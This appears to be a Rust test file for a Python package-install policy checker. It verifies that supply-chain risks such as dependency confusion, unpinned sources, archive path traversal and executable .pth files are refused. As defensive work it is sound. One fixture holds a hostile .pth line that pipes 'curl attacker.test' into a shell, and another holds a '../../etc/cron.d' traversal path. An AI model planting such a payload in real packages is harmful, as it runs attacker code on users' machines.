@@ -1,0 +1,492 @@
+//! Every rule: the hostile facts are refused, the good facts pass.
+
+mod common;
+
+use std::path::PathBuf;
+
+use common::*;
+use safevenv_policy::{
+    Advisory, ArchiveProblem, ArchiveProblemKind, ArtifactKind, AttestationStatus, ConfiguredIndex,
+    HashOrigin, InstalledDistribution, Origin, PthFile, Publisher, RuleId, Severity, Source,
+};
+
+const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
+
+#[test]
+fn default_preset_passes_good_facts() {
+    assert_approved(judge("", &set(vec![package("requests", "2.32.3"), package("idna", "3.7")])));
+}
+
+// sources.index
+
+#[test]
+fn index_not_configured_is_refused() {
+    let mut foo = package("foo", "1.0");
+    foo.source = Source::Index { url: url("https://other.example/simple/") };
+    assert_refused(judge("", &set(vec![foo])), RuleId::SourcesIndex);
+}
+
+#[test]
+fn index_set_by_requirements_file_is_refused_unless_listed() {
+    let mut facts = set(vec![package("foo", "1.0")]);
+    facts.indexes[0].origin = Origin::RequirementsFile {
+        path: PathBuf::from("/proj/requirements.txt"),
+        line: 1,
+    };
+    let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
+    assert!(refusals.to_string().contains("requirements.txt"), "{refusals}");
+    assert_approved(judge(&format!("[sources]\nindexes = [\"{INDEX}\"]\n"), &facts));
+}
+
+#[test]
+fn extra_index_must_be_listed() {
+    let extra = "https://private.example/simple";
+    let mut foo = package("foo", "1.0");
+    foo.source = Source::Index { url: url(extra) };
+    let mut facts = set(vec![foo]);
+    facts.indexes.push(ConfiguredIndex {
+        url: url(extra),
+        default: false,
+        origin: Origin::CommandLine,
+    });
+    assert_refused(judge("", &facts), RuleId::SourcesIndex);
+    // A trailing slash does not make it another index.
+    assert_approved(judge(&format!("[sources]\nindexes = [\"{extra}/\"]\n"), &facts));
+}
+
+#[test]
+fn name_on_two_indexes_is_refused_unless_pinned() {
+    let mut foo = package("internal-lib", "1.0");
+    foo.also_on_indexes = vec![url("https://private.example/simple/")];
+    let facts = set(vec![foo]);
+    let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
+    assert!(refusals.to_string().contains("dependency confusion"), "{refusals}");
+    assert_approved(judge(&format!("[sources.packages]\ninternal-lib = \"{INDEX}\"\n"), &facts));
+}
+
+#[test]
+fn pinned_package_from_another_index_is_refused() {
+    let facts = set(vec![package("torch", "2.3.0")]);
+    let toml = "[sources]\nindexes = [\"https://download.example/whl\"]\n[sources.packages]\ntorch = \"https://download.example/whl\"\n";
+    assert_refused(judge(toml, &facts), RuleId::SourcesIndex);
+}
+
+// sources.direct-url
+
+#[test]
+fn direct_url_needs_package_and_prefix() {
+    let mut foo = package("foo", "1.0");
+    foo.source = Source::DirectUrl {
+        url: url("https://user:secret@files.example/foo/foo-1.0-py3-none-any.whl?sig=token"),
+        origin: Origin::CommandLine,
+    };
+    let facts = set(vec![foo]);
+    let refusals = assert_refused(judge("", &facts), RuleId::SourcesDirectUrl);
+    let shown = refusals.to_string();
+    assert!(!shown.contains("secret") && !shown.contains("token"), "{shown}");
+    let allow = |package: &str, prefix: &str| {
+        format!("[sources]\ndirect-url-allow = [{{ package = \"{package}\", url = \"{prefix}\" }}]\n")
+    };
+    assert_approved(judge(&allow("foo", "https://files.example/foo"), &facts));
+    assert_refused(judge(&allow("bar", "https://files.example/foo"), &facts), RuleId::SourcesDirectUrl);
+    assert_refused(judge(&allow("foo", "https://files.example/fo"), &facts), RuleId::SourcesDirectUrl);
+}
+
+// sources.vcs, sources.vcs-unpinned
+
+#[test]
+fn vcs_needs_allow_and_full_commit() {
+    let vcs = |revision: &str| {
+        let mut foo = package("foo", "1.0");
+        foo.source = Source::Vcs {
+            url: url("git+https://git.example/org/foo"),
+            requested_revision: Some(revision.to_string()),
+            origin: Origin::CommandLine,
+        };
+        foo.artifact.kind = ArtifactKind::SourceTree;
+        foo.artifact.sha256 = None;
+        foo.contents = None;
+        set(vec![foo])
+    };
+    let allow = "[sources]\nvcs-allow = [{ package = \"foo\", url = \"https://git.example/org/foo\" }]\n[artifacts]\nsdist-allow = [\"foo\"]\n";
+    let just_sdist = "[artifacts]\nsdist-allow = [\"foo\"]\n";
+    assert_refused(judge(just_sdist, &vcs(COMMIT)), RuleId::SourcesVcs);
+    assert_refused(judge(allow, &vcs("main")), RuleId::SourcesVcsUnpinned);
+    assert_refused(judge(allow, &vcs(&COMMIT[..12])), RuleId::SourcesVcsUnpinned);
+    assert_approved(judge(allow, &vcs(COMMIT)));
+    // A look-alike organisation is not under the prefix.
+    let evil = "[sources]\nvcs-allow = [{ package = \"foo\", url = \"https://git.example/or\" }]\n[artifacts]\nsdist-allow = [\"foo\"]\n";
+    assert_refused(judge(evil, &vcs(COMMIT)), RuleId::SourcesVcs);
+}
+
+// sources.path
+
+#[test]
+fn path_must_be_inside_an_allowed_directory() {
+    let local = |path: &str| {
+        let mut foo = package("mylib", "0.1");
+        foo.source = Source::Path {
+            path: PathBuf::from(path),
+            editable: true,
+            origin: Origin::CommandLine,
+        };
+        foo.artifact.kind = ArtifactKind::SourceTree;
+        foo.artifact.sha256 = None;
+        set(vec![foo])
+    };
+    let allow = "[sources]\npath-allow = [{ package = \"mylib\", path = \"../mylib\" }]\n";
+    // `/proj/safevenv.toml` makes `../mylib` mean `/mylib`.
+    assert_approved(judge(allow, &local("/mylib/src")));
+    assert_refused(judge("", &local("/mylib")), RuleId::SourcesPath);
+    assert_refused(judge(allow, &local("/mylib/../etc")), RuleId::SourcesPath);
+    assert_refused(judge(allow, &local("/mylib-evil")), RuleId::SourcesPath);
+}
+
+// artifacts.hashes
+
+#[test]
+fn artifacts_need_a_pinned_hash_from_an_accepted_source() {
+    let mut bare = package("foo", "1.0");
+    bare.artifact.sha256 = None;
+    assert_refused(judge("", &set(vec![bare])), RuleId::ArtifactsHashes);
+
+    let mut short = package("foo", "1.0");
+    short.artifact.sha256.as_mut().unwrap().hex = "abc".to_string();
+    assert_refused(judge("", &set(vec![short])), RuleId::ArtifactsHashes);
+
+    // The ci preset accepts only pins made in advance.
+    let ci = "extends = \"ci\"\n[releases]\nmin-release-age = \"0\"\n";
+    assert_refused(judge(ci, &set(vec![package("foo", "1.0")])), RuleId::ArtifactsHashes);
+    let mut locked = package("foo", "1.0");
+    locked.artifact.sha256.as_mut().unwrap().origin = HashOrigin::Lockfile;
+    assert_approved(judge(ci, &set(vec![locked])));
+}
+
+// artifacts.sdist
+
+#[test]
+fn sdists_are_refused_unless_allowed() {
+    let mut foo = package("foo", "1.0");
+    foo.artifact.kind = ArtifactKind::Sdist;
+    foo.artifact.filename = "foo-1.0.tar.gz".to_string();
+    let facts = set(vec![foo]);
+    let refusals = assert_refused(judge("", &facts), RuleId::ArtifactsSdist);
+    assert!(refusals.refusals()[0].fix.contains("[artifacts] sdist-allow"));
+    assert_approved(judge("[artifacts]\nsdist-allow = [\"foo\"]\n", &facts));
+    assert_refused(judge("[artifacts]\nsdist-allow = [\"bar\"]\n", &facts), RuleId::ArtifactsSdist);
+}
+
+// releases.yanked
+
+#[test]
+fn yanked_is_refused_even_pinned() {
+    let mut foo = package("foo", "1.0");
+    foo.yanked = true;
+    let facts = set(vec![foo]);
+    assert_refused(judge("", &facts), RuleId::ReleasesYanked);
+    assert_approved(judge("[releases]\nyanked-allow = [\"foo==1.0\"]\n", &facts));
+    assert_refused(judge("[releases]\nyanked-allow = [\"foo==1.1\"]\n", &facts), RuleId::ReleasesYanked);
+}
+
+// releases.min-age
+
+#[test]
+fn young_releases_wait() {
+    let week = "[releases]\nmin-release-age = \"7 days\"\n";
+    let mut young = package("foo", "1.0");
+    young.upload_time = Some("2025-05-30T00:00:00Z".parse().unwrap());
+    let refusals = assert_refused(judge(week, &set(vec![young.clone()])), RuleId::ReleasesMinAge);
+    assert!(refusals.to_string().contains("2 days"), "{refusals}");
+    assert_approved(judge(week, &set(vec![package("foo", "1.0")])));
+    // Per-package override.
+    assert_approved(judge(
+        &format!("{week}[releases.min-release-age-overrides]\nfoo = \"1 day\"\n"),
+        &set(vec![young.clone()]),
+    ));
+    // A release fixing a known vulnerability may skip the wait, if the policy says so.
+    young.fixes_known_vulnerability = true;
+    assert_approved(judge(week, &set(vec![young.clone()])));
+    assert_refused(judge("extends = \"strict\"\n[attestations]\nmode = \"off\"\n", &set(vec![young])), RuleId::ReleasesMinAge);
+}
+
+#[test]
+fn unknown_upload_time_fails_closed() {
+    let mut foo = package("foo", "1.0");
+    foo.upload_time = None;
+    let facts = set(vec![foo]);
+    assert_refused(judge("[releases]\nmin-release-age = \"12h\"\n", &facts), RuleId::ReleasesMinAge);
+    assert_approved(judge("", &facts));
+}
+
+// packages.deny, packages.allow
+
+#[test]
+fn deny_entries_with_specifiers() {
+    let toml = "[packages]\ndeny = [\"evilpkg\", \"foo<2.1\"]\n";
+    assert_refused(judge(toml, &set(vec![package("evilpkg", "9.9")])), RuleId::PackagesDeny);
+    assert_refused(judge(toml, &set(vec![package("foo", "2.0")])), RuleId::PackagesDeny);
+    assert_approved(judge(toml, &set(vec![package("foo", "2.1")])));
+    // Names are normalized.
+    assert_refused(judge("[packages]\ndeny = [\"Evil_Pkg\"]\n", &set(vec![package("evil-pkg", "1")])), RuleId::PackagesDeny);
+}
+
+#[test]
+fn allow_entries_and_allow_only() {
+    let facts = set(vec![package("requests", "2.32.3"), package("idna", "3.7")]);
+    assert_approved(judge("[packages]\nallow = [\"requests>=2.31\"]\n", &facts));
+    assert_refused(judge("[packages]\nallow = [\"requests<2\"]\n", &facts), RuleId::PackagesAllow);
+    let only = "[packages]\nallow = [\"requests\"]\nallow-only = true\n";
+    let refusals = assert_refused(judge(only, &facts), RuleId::PackagesAllow);
+    assert_eq!(refusals.refusals()[0].package.as_ref(), "idna");
+    assert_approved(judge("[packages]\nallow = [\"requests\", \"idna\"]\nallow-only = true\n", &facts));
+}
+
+// licenses
+
+#[test]
+fn licenses_allow_deny_and_unknown() {
+    let with = |expression: Option<&str>| {
+        let mut foo = package("foo", "1.0");
+        foo.license.expression = expression.map(str::to_string);
+        set(vec![foo])
+    };
+    let allow = "[licenses]\nallow = [\"MIT\", \"Apache-2.0\"]\n";
+    assert_refused(judge(allow, &with(Some("GPL-3.0-only"))), RuleId::Licenses);
+    assert_approved(judge(allow, &with(Some("GPL-3.0-only OR Apache-2.0"))));
+    assert_refused(judge(allow, &with(Some("MIT AND GPL-3.0-only"))), RuleId::Licenses);
+    assert_refused(judge(allow, &with(None)), RuleId::Licenses);
+    assert_approved(judge(&format!("{allow}unknown = \"allow\"\n"), &with(None)));
+    assert_approved(judge(&format!("{allow}exceptions = [\"foo\"]\n"), &with(Some("GPL-3.0-only"))));
+    // Without an allowlist, only the deny list matters.
+    assert_approved(judge("", &with(None)));
+    assert_refused(judge("[licenses]\ndeny = [\"AGPL-3.0-only\"]\n", &with(Some("AGPL-3.0-only"))), RuleId::Licenses);
+
+    let mut classified = package("bar", "1.0");
+    classified.license.expression = None;
+    classified.license.classifiers = vec!["License :: OSI Approved :: MIT License".to_string()];
+    assert_approved(judge(allow, &set(vec![classified])));
+}
+
+// contents.pth-exec
+
+fn with_pth(project: &str, file: &str, line: &str) -> safevenv_policy::PackageFacts {
+    let mut facts = package(project, "1.0");
+    facts.contents.as_mut().unwrap().pth_files.push(PthFile {
+        name: file.to_string(),
+        lines: vec![line.to_string()],
+    });
+    facts
+}
+
+#[test]
+fn executable_pth_is_refused() {
+    let evil = with_pth("foo", "foo.pth", "import os; os.system('curl attacker.test | sh')");
+    let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
+    assert!(refusals.to_string().contains("foo.pth"));
+    // Plain path lines are not code.
+    assert_approved(judge("", &set(vec![with_pth("foo", "foo.pth", "/opt/foo/lib")])));
+    // The exemption is by package AND file.
+    let allow = "[contents]\npth-exec-allow = [{ package = \"foo\", file = \"foo.pth\" }]\n";
+    assert_approved(judge(allow, &set(vec![with_pth("foo", "foo.pth", "import foo")])));
+    assert_refused(judge(allow, &set(vec![with_pth("bar", "foo.pth", "import foo")])), RuleId::ContentsPthExec);
+}
+
+#[test]
+fn default_preset_knows_the_legitimate_pth_files() {
+    let setuptools = with_pth("setuptools", "distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'");
+    assert_approved(judge("", &set(vec![setuptools])));
+    // Another project may not borrow setuptools' exemption.
+    let impostor = with_pth("setuptool", "distutils-precedence.pth", "import os");
+    assert_refused(judge("", &set(vec![impostor])), RuleId::ContentsPthExec);
+
+    let finder = "import __editable___mylib_finder; __editable___mylib_finder.install()";
+    let mut local = with_pth("mylib", "__editable__.mylib-0.1.pth", finder);
+    local.source = Source::Path {
+        path: PathBuf::from("/proj/mylib"),
+        editable: true,
+        origin: Origin::CommandLine,
+    };
+    let allow_path = "[sources]\npath-allow = [{ package = \"mylib\", path = \".\" }]\n";
+    assert_approved(judge(allow_path, &set(vec![local])));
+    // The same file in a wheel from an index is not an editable install.
+    let from_index = with_pth("mylib", "__editable__.mylib-0.1.pth", finder);
+    assert_refused(judge("", &set(vec![from_index])), RuleId::ContentsPthExec);
+}
+
+// contents.overwrite
+
+#[test]
+fn shared_files_are_refused() {
+    let mut a = package("alpha", "1.0");
+    let mut b = package("beta", "1.0");
+    let shared = "lib/python3.12/site-packages/requests/__init__.py".to_string();
+    a.contents.as_mut().unwrap().files.push(shared.clone());
+    b.contents.as_mut().unwrap().files.push(shared.clone());
+    let refusals = assert_refused(judge("", &set(vec![a.clone(), b.clone()])), RuleId::ContentsOverwrite);
+    assert_eq!(refusals.refusals().len(), 2, "both sides are reported:\n{refusals}");
+    let allow = "[contents]\noverwrite-allow = [{ package = \"*\", file = \"*/site-packages/requests/__init__.py\" }]\n";
+    assert_approved(judge(allow, &set(vec![a.clone(), b])));
+
+    // A file an installed distribution owns.
+    let mut facts = set(vec![a.clone()]);
+    facts.installed.push(InstalledDistribution {
+        name: name("requests"),
+        files: vec![shared],
+        scripts: Vec::new(),
+    });
+    assert_refused(judge("", &facts), RuleId::ContentsOverwrite);
+    // Upgrading a distribution does not clash with its own old files.
+    let old_alpha = InstalledDistribution {
+        name: name("alpha"),
+        files: a.contents.as_ref().unwrap().files.clone(),
+        scripts: Vec::new(),
+    };
+    let mut upgrade = set(vec![package("alpha", "2.0")]);
+    upgrade.installed.push(old_alpha);
+    assert_approved(judge("", &upgrade));
+}
+
+// contents.stdlib-shadow
+
+#[test]
+fn stdlib_names_are_refused_per_version() {
+    let mut shadow = package("jsonlib", "1.0");
+    shadow.contents.as_mut().unwrap().top_level.push("json".to_string());
+    assert_refused(judge("", &set(vec![shadow])), RuleId::ContentsStdlibShadow);
+
+    let mut cgi = package("legacy-cgi", "2.6");
+    cgi.contents.as_mut().unwrap().top_level = vec!["cgi".to_string()];
+    let mut facts = set(vec![cgi]);
+    assert_refused(judge("", &facts), RuleId::ContentsStdlibShadow);
+    facts.python_version = Some((3, 13));
+    assert_approved(judge("", &facts));
+    facts.python_version = None;
+    assert_refused(judge("", &facts), RuleId::ContentsStdlibShadow);
+    let allow = "[contents]\nstdlib-shadow-allow = [{ package = \"legacy-cgi\", module = \"cgi\" }]\n";
+    assert_approved(judge(allow, &facts));
+}
+
+// contents.script-clash
+
+#[test]
+fn reserved_and_shared_scripts_are_refused() {
+    let with_script = |project: &str, script: &str| {
+        let mut facts = package(project, "1.0");
+        facts.contents.as_mut().unwrap().scripts.push(script.to_string());
+        facts
+    };
+    assert_refused(judge("", &set(vec![with_script("foo", "python3")])), RuleId::ContentsScriptClash);
+    assert_refused(judge("", &set(vec![with_script("foo", "pip3.12")])), RuleId::ContentsScriptClash);
+    assert_refused(judge("", &set(vec![with_script("foo", "activate")])), RuleId::ContentsScriptClash);
+    assert_approved(judge("", &set(vec![with_script("pip", "pip3.12")])));
+    assert_approved(judge("", &set(vec![with_script("foo", "foo-cli")])));
+    assert_refused(
+        judge("", &set(vec![with_script("foo", "tool"), with_script("bar", "tool")])),
+        RuleId::ContentsScriptClash,
+    );
+    let mut facts = set(vec![with_script("foo", "black")]);
+    facts.installed.push(InstalledDistribution {
+        name: name("black"),
+        files: Vec::new(),
+        scripts: vec!["black".to_string()],
+    });
+    assert_refused(judge("", &facts), RuleId::ContentsScriptClash);
+}
+
+// contents.archive
+
+#[test]
+fn archive_problems_are_always_refused() {
+    let mut foo = package("foo", "1.0");
+    foo.contents.as_mut().unwrap().archive_problems.push(ArchiveProblem {
+        kind: ArchiveProblemKind::PathTraversal,
+        member: Some("../../etc/cron.d/x".to_string()),
+        detail: "member escapes the install directory".to_string(),
+    });
+    let facts = set(vec![foo]);
+    assert_refused(judge("", &facts), RuleId::ContentsArchive);
+    // Nothing in a policy can allow it.
+    let loose = "[contents]\npth-exec = \"allow\"\noverwrite = \"allow\"\nstdlib-shadow = \"allow\"\nscript-clash = \"allow\"\n";
+    assert_refused(judge(loose, &facts), RuleId::ContentsArchive);
+    // A wheel nobody inspected fails closed.
+    let mut uninspected = package("foo", "1.0");
+    uninspected.contents = None;
+    assert_refused(judge("", &set(vec![uninspected])), RuleId::ContentsArchive);
+}
+
+// attestations, attestations.publisher-change
+
+fn publisher(repository: &str, workflow: &str) -> Publisher {
+    Publisher {
+        kind: "github".to_string(),
+        repository: repository.to_string(),
+        workflow: Some(workflow.to_string()),
+        environment: None,
+    }
+}
+
+#[test]
+fn attestation_modes_and_pins() {
+    let require = "[attestations]\nmode = \"require\"\n";
+    assert_refused(judge(require, &set(vec![package("requests", "2.32.3")])), RuleId::Attestations);
+
+    let mut invalid = package("requests", "2.32.3");
+    invalid.attestation.status = AttestationStatus::Invalid {
+        reason: "signature does not match".to_string(),
+    };
+    assert_refused(judge("", &set(vec![invalid.clone()])), RuleId::Attestations);
+    assert_approved(judge("[attestations]\nmode = \"off\"\n", &set(vec![invalid])));
+
+    let mut verified = package("requests", "2.32.3");
+    verified.attestation.status = AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
+    let facts = set(vec![verified]);
+    assert_approved(judge(require, &facts));
+    let pin = |repository: &str| {
+        format!("[attestations.packages]\nrequests = {{ repository = \"{repository}\", workflow = \"publish.yml\" }}\n")
+    };
+    assert_approved(judge(&pin("PSF/requests"), &facts));
+    assert_refused(judge(&pin("evil/requests"), &facts), RuleId::Attestations);
+    // A pin implies `require`.
+    assert_refused(judge(&pin("psf/requests"), &set(vec![package("requests", "2.32.3")])), RuleId::Attestations);
+}
+
+#[test]
+fn publisher_change_needs_acceptance() {
+    let mut changed = package("requests", "2.32.3");
+    changed.attestation.status = AttestationStatus::Verified(publisher("someone/requests", "release.yml"));
+    changed.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
+    assert_refused(judge("", &set(vec![changed.clone()])), RuleId::AttestationsPublisherChange);
+    changed.attestation.publisher_change_accepted = true;
+    assert_approved(judge("", &set(vec![changed])));
+
+    let mut same = package("requests", "2.32.3");
+    same.attestation.status = AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
+    same.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
+    assert_approved(judge("", &set(vec![same])));
+
+    let mut dropped = package("requests", "2.32.3");
+    dropped.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
+    assert_refused(judge("", &set(vec![dropped])), RuleId::AttestationsPublisherChange);
+}
+
+// vulnerabilities
+
+#[test]
+fn vulnerabilities_by_severity_and_ignore() {
+    let with = |severity: Option<Severity>| {
+        let mut foo = package("foo", "1.0");
+        foo.vulnerabilities.push(Advisory {
+            id: "PYSEC-2024-1".to_string(),
+            aliases: vec!["CVE-2024-0001".to_string()],
+            severity,
+        });
+        set(vec![foo])
+    };
+    assert_refused(judge("", &with(Some(Severity::Critical))), RuleId::Vulnerabilities);
+    assert_approved(judge("", &with(Some(Severity::Medium))));
+    assert_refused(judge("[vulnerabilities]\nseverity = \"medium\"\n", &with(Some(Severity::Medium))), RuleId::Vulnerabilities);
+    // No severity stated: fail closed.
+    assert_refused(judge("", &with(None)), RuleId::Vulnerabilities);
+    assert_approved(judge("[vulnerabilities]\nignore = [\"CVE-2024-0001\"]\n", &with(None)));
+    assert_approved(judge("[vulnerabilities]\ndeny = false\n", &with(Some(Severity::Critical))));
+}
